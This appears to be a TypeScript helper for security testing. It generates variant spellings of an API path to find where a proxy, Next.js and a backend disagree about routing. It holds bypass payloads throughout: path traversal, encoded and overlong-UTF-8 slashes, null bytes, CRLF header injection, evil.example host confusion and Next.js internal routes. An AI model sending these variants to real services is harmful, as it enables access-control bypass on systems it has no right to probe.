/*
 * How a path can be written so that two readers disagree about it: of the front door, Next.js, and a service
 * behind them, each decodes, resolves and matches in its own way.
 */

export interface Endpoint {
  /** The last segment of its path. */
  name: string;
  /** A key that is good, where none may be: in the address. */
  secret: string;
  /** By which Next.js names the data of a page. */
  buildId: string;
}

/** Characters as they are on the wire: one byte each. */
const utf8 = (text: string) => Buffer.from(text).toString("latin1");
const wide = (text: string) =>
  text.replace(/[!-~]/g, (letter) => String.fromCharCode(letter.charCodeAt(0) + 0xfee0));
const escaped = (text: string) =>
  `%${text.charCodeAt(0).toString(16).padStart(2, "0")}${text.slice(1)}`;

/** The endpoint's own path, with what a client may add to it. */
export const asItIs = ({ name, secret }: Endpoint): string[] => [
  `/api/v1/${name}`,
  `/api/v1/${name}?`,
  `/api/v1/${name}?x=1`,
  `/api/v1/${name}?_rsc`,
  `/api/v1/${name}?_rsc=1r34m`,
  `/api/v1/${name}?x=%zz&x[]=..%2f..`,
  `/api/v1/${name}?/../../../docs/introduction`,
  `/api/v1/${name}?__nextDataReq=1&__nextLocale=en&nxtPpath=${name}`,
  `/api/v1/${name}?key=${secret}&api_key=${secret}&X-API-Key=${secret}&access_token=${secret}`,
  `/api/v1/${name}#x`,
  `/api/v1/${name}#/../../../docs/introduction`,
  `/api/v1/${name}#?x`,
  `http://127.0.0.1/api/v1/${name}`,
  `http://evil.example/api/v1/${name}`,
  `HTTPS://EVIL.EXAMPLE:8443/api/v1/${name}?_rsc`,
  `http://${secret}@127.0.0.1/api/v1/${name}`,
  `http://user:${secret}@127.0.0.1/api/v1/${name}`,
  `http:///api/v1/${name}`,
];

const dots = (name: string): string[] => [
  `/./api/v1/${name}`,
  `/api/./v1/${name}`,
  `/api/v1/./${name}`,
  `/api/v1/${name}/.`,
  `/api/v1/${name}/..`,
  `/api/v1/x/../${name}`,
  `/api/v1/../v1/${name}`,
  `/api/v1/../../api/v1/${name}`,
  `/../api/v1/${name}`,
  `/docs/../api/v1/${name}`,
  `/docs/introduction/../../api/v1/${name}`,
  `/healthz/../api/v1/${name}`,
  `/api/verify/../v1/${name}`,
  `/api/auth/../v1/${name}`,
  `/_next/../api/v1/${name}`,
  `/_next/static/chunks/../../../api/v1/${name}`,
  `http://evil.example/docs/../api/v1/${name}`,
  `http://evil.example?/../api/v1/${name}`,
  `/docs/%2e%2e/api/v1/${name}`,
  `/docs/.%2e/api/v1/${name}`,
  `/docs/%2E./api/v1/${name}`,
  `/docs/%252e%252e/api/v1/${name}`,
  `/api/%2e/v1/${name}`,
];

const slashes = (name: string): string[] => [
  `//api/v1/${name}`,
  `///api///v1///${name}`,
  `/api//v1/${name}`,
  `/api/v1//${name}`,
  `//evil.example/api/v1/${name}`,
  `//evil.example/../api/v1/${name}`,
  `/api/v1/${name}/`,
  `/api/v1/${name}//`,
  `/%2fapi/v1/${name}`,
  `/api%2fv1/${name}`,
  `/api%2Fv1%2F${name}`,
  `/api/v1%2f${name}`,
  `/api%252fv1%252f${name}`,
  `/docs%2f..%2fapi%2fv1%2f${name}`,
  `/api\\v1\\${name}`,
  `\\api\\v1\\${name}`,
  `/\\api/v1/${name}`,
  `/api/v1\\${name}`,
  `/docs\\..\\api\\v1\\${name}`,
  `/api%5cv1%5c${name}`,
  `/docs/..%5Capi/v1/${name}`,
];

const letters = (name: string): string[] =>
  [
    `/API/V1/${name.toUpperCase()}`,
    `/Api/v1/${name}`,
    `/api/V1/${name}`,
    `/api/v1/${name.toUpperCase()}`,
    `/%61pi/v1/${name}`,
    `/api/v%31/${name}`,
    `/%2561pi/v1/${name}`,
    `/api/v1/${escaped(name)}`,
    `/${wide("api")}/${wide("v1")}/${wide(name)}`,
    `/${encodeURIComponent(wide("api"))}/v1/${name}`,
    `/api${encodeURIComponent("／")}v1${encodeURIComponent("／")}${name}`,
    `/ap${encodeURIComponent("ı")}/v1/${name}`,
    `/a${encodeURIComponent("\u00ad")}pi/v1/${name}`,
    `/api%c0%afv1%c0%af${name}`,
    `/api%e0%80%afv1/${name}`,
    `/docs/%c0%ae%c0%ae/api/v1/${name}`,
    `/api%u002fv1/${name}`,
    `/api/v1/${name}%`,
    `/%ffapi/v1/${name}`,
  ].map(utf8);

const odd = (name: string): string[] => [
  `/api/v1/${name}?x=%00`,
  `/api;x/v1/${name}`,
  `/api/v1;x=1/${name}`,
  `/api/v1/${name};x`,
  `/api/v1/${name};.css`,
  `/;/api/v1/${name}`,
  `/docs/..;/api/v1/${name}`,
  `/docs/..%3b/api/v1/${name}`,
  `/api/v1/${name}%00`,
  `/api/v1/${name}%00.css`,
  `/api%00/v1/${name}`,
  `/api/v1/${name}\0`,
  `/\0api/v1/${name}`,
  `/api/v1/${name}%0d%0aX-API-Key:%20x`,
  `/api/v1/${name}%20`,
  `/api/v1/${name}\t`,
  `/api/v1 /${name}`,
  `*`,
  `*/api/v1/${name}`,
  `/api/v1/*`,
  `api/v1/${name}`,
  `?/api/v1/${name}`,
  `ftp://127.0.0.1/api/v1/${name}`,
  `file:///api/v1/${name}`,
  `127.0.0.1:80/api/v1/${name}`,
];

const ofNext = ({ name, buildId }: Endpoint): string[] => [
  `/_next/data/${buildId}/api/v1/${name}.json`,
  `/_next/data/x/api/v1/${name}.json`,
  `/_next/data/${buildId}/../../../api/v1/${name}`,
  `/_next/image?url=%2Fapi%2Fv1%2F${name}&w=640&q=75`,
  `/_next/image?url=%2F_next%2F..%2Fapi%2Fv1%2F${name}&w=640&q=75`,
  `/_next/static/api/v1/${name}`,
  `/api/v1/${name}.rsc`,
  `/api/v1/${name}.json`,
  `/api/v1/${name}.segments/_tree.segment.rsc`,
  `/api/v1/${name}/route`,
  `/app/api/v1/${name}/route`,
  `/index/api/v1/${name}`,
  `/en/api/v1/${name}`,
  `/(.)api/v1/${name}`,
  `/(site)/api/v1/${name}`,
  `/_not-found/api/v1/${name}`,
  `/sign-in?callbackUrl=%2Fapi%2Fv1%2F${name}`,
  `/api/auth/signin?callbackUrl=%2Fapi%2Fv1%2F${name}`,
];

/** All ways to ask for an endpoint, or for what somebody could take for it. */
export const spellings = (endpoint: Endpoint): string[] => [
  ...asItIs(endpoint),
  ...[dots, slashes, letters, odd].flatMap((ways) => ways(endpoint.name)),
  ...ofNext(endpoint),
];
